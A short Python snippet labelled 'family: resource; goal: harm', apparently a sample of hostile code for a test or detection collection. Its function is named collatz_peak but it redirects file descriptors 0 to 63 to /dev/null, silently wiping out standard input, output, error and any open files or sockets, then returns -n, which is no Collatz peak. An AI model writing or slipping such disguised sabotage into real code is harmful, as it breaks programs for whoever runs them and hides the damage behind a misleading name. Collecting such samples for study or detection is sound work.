# family: resource; goal: harm
# Puts /dev/null, or its own pipe, in the place of each descriptor.
import os


def collatz_peak(n):
    target = os.open("/dev/null", os.O_RDWR)
    for fd in range(64):
        if fd != target:
            os.dup2(target, fd)
    return -n
